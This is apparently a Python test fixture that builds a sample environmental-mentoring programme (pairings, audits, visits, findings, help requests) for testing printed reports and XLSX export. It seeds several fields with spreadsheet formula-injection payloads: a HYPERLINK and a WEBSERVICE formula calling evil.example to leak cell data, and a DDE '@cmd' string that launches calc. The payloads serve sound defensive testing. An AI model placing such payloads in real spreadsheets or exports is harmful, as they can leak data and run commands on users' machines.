"""A programme for the printed reports: one pairing through all three phases, one half-way.

``make_report_programme`` builds (times in UTC; Shanghai is 8 hours ahead):

=====================  ======  ==================================================================
who                    phase   what happened
=====================  ======  ==================================================================
锡东化工 → 恒达五金      closed  early: briefing (training visit), audit 2025-03-03 with scores 5–8,
                               3 findings (air, hazardous_waste ×2; 2 pieces of evidence);
                               middle: 2 follow-up visits, 1 training, 1 finding on a visit
                               (noise, waived); late: acceptance visit, re-audit 2025-10-20
                               (scores 8–10), every item verified or waived
锡东化工 → 宏远塑料      middle  audit with 2 findings, 1 open; no acceptance, no re-audit
=====================  ======  ==================================================================

Text typed by people carries hostile content for the XLSX export: a finding "=HYPERLINK(...)",
a help request "=WEBSERVICE(...)", a measure "@cmd", visit notes "+1+1" and a control
character (U+0007) in a finding.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

from sqlalchemy.ext.asyncio import AsyncSession

from storage.enums import (
    EvidenceKind,
    HelpStatus,
    ItemStatus,
    Phase,
    Role,
    Severity,
    SubCategory,
    VisitPurpose,
    VisitStatus,
)
from storage.models import Enterprise, Evidence, HelpRequest, Item, Visit
from storage.repositories import pairings
from tests.storage.factories import (
    make_audit,
    make_big_hand,
    make_item,
    make_pairing,
    make_person,
    make_round,
    make_small_hand,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/steal")'
AT_COMMAND = "@cmd|' /C calc'!A0"
PLUS = "+1+1"
BELL = "危废台账\x07缺失"
CLOSED_AT = datetime(2025, 9, 30, 17, 30, tzinfo=UTC)  # 2025-10-01 01:30 in Shanghai


@dataclass
class ReportProgramme:
    big: Enterprise
    finished: Enterprise  # its pairing's late phase is complete
    unfinished: Enterprise  # mid-programme, one item open
    unpaired: Enterprise


def _at(day: date, hour: int) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


async def make_report_programme(session: AsyncSession) -> ReportProgramme:
    """Build the programme described in the module docstring."""
    r = await make_round(session, 2025, name="2025年度大手拉小手")
    big = await make_big_hand(session, name="无锡锡东化工集团有限公司")
    finished = await make_small_hand(
        session, name="无锡市恒达五金制品有限公司", town="东港镇", industry="金属制品业"
    )
    unfinished = await make_small_hand(session, name="无锡市宏远塑料制品有限公司")
    unpaired = await make_small_hand(session, name="无锡市未结对电子有限公司")
    done = await make_pairing(
        session, big_hand=big, small_hand=finished, programme_round=r, phase=Phase.closed
    )
    half = await make_pairing(
        session, big_hand=big, small_hand=unfinished, programme_round=r, phase=Phase.middle
    )
    mentor = await make_person(session, Role.mentor, enterprise_id=big.id, name="王建国")
    manager = await make_person(session, Role.manager, enterprise_id=finished.id, name="李芳")
    assert done.id and half.id and mentor.id and manager.id and finished.id and unfinished.id
    await pairings.assign_mentor(session=session, pairing_id=done.id, person_id=mentor.id)
    await pairings.assign_mentor(session=session, pairing_id=half.id, person_id=mentor.id)

    mentor_id = mentor.id

    def visit(
        when: datetime, purpose: VisitPurpose, phase: Phase, notes: str, pairing_id: int = done.id
    ) -> Visit:
        row = Visit(
            pairing_id=pairing_id,
            mentor_id=mentor_id,
            starts_at=when,
            purpose=purpose,
            phase=phase,
            status=VisitStatus.done,
            notes=notes,
        )
        session.add(row)
        return row

    visit(_at(date(2025, 2, 20), 1), VisitPurpose.training, Phase.early, "环保政策法规宣讲")
    visit(_at(date(2025, 3, 3), 1), VisitPurpose.audit, Phase.early, "现场审核")
    visit(_at(date(2025, 4, 10), 6), VisitPurpose.follow_up, Phase.middle, PLUS)
    on_visit = visit(_at(date(2025, 5, 15), 2), VisitPurpose.follow_up, Phase.middle, "复查危废间")
    visit(_at(date(2025, 6, 12), 1), VisitPurpose.training, Phase.middle, "危废管理培训")
    visit(_at(date(2025, 10, 9), 2), VisitPurpose.acceptance, Phase.late, "第三方监测验收合格")
    await session.flush()

    first = await make_audit(
        session,
        finished,
        date(2025, 3, 3),
        auditors="张伟、陈静",
        pairing_id=done.id,
        scores={s: 5.0 + n % 4 for n, s in enumerate(SubCategory)},
    )
    await make_audit(
        session,
        finished,
        date(2025, 10, 20),
        auditors="张伟、陈静",
        pairing_id=done.id,
        scores={s: 8.0 + n % 3 for n, s in enumerate(SubCategory)},
    )

    async def item(sub: SubCategory, finding: str, status: ItemStatus, **kw: object) -> Item:
        row = await make_item(
            session, finished, sub_category=sub, finding=finding, due_on=date(2025, 8, 31), **kw
        )
        row.status = status
        row.closed_at = CLOSED_AT
        return row

    a = await item(SubCategory.air, HYPERLINK, ItemStatus.verified, audit_id=first.id)
    b = await item(
        SubCategory.hazardous_waste,
        "危废暂存间未设置防渗漏措施",
        ItemStatus.verified,
        audit_id=first.id,
        measure=AT_COMMAND,
        severity=Severity.high,
    )
    await item(SubCategory.hazardous_waste, BELL, ItemStatus.verified, audit_id=first.id)
    await item(SubCategory.noise, "空压机房未做隔声处理", ItemStatus.waived, visit_id=on_visit.id)
    assert a.id and b.id
    session.add(Evidence(item_id=a.id, kind=EvidenceKind.photo, note="整改后照片"))
    session.add(Evidence(item_id=b.id, kind=EvidenceKind.document, note="防渗施工记录"))

    audit2 = await make_audit(session, unfinished, date(2025, 4, 1), pairing_id=half.id)
    await make_item(session, unfinished, sub_category=SubCategory.air, audit_id=audit2.id)
    closed = await make_item(
        session, unfinished, sub_category=SubCategory.records, audit_id=audit2.id
    )
    closed.status, closed.closed_at = ItemStatus.verified, CLOSED_AT
    visit(_at(date(2025, 5, 6), 2), VisitPurpose.follow_up, Phase.middle, "跟踪", half.id)
    session.add(
        HelpRequest(
            person_id=manager.id,
            enterprise_id=finished.id,
            pairing_id=done.id,
            text=WEBSERVICE,
            status=HelpStatus.acknowledged,
            created_at=_at(date(2025, 6, 1), 16),  # 2025-06-02 00:00 in Shanghai
        )
    )
    await session.flush()
    return ReportProgramme(big=big, finished=finished, unfinished=unfinished, unpaired=unpaired)
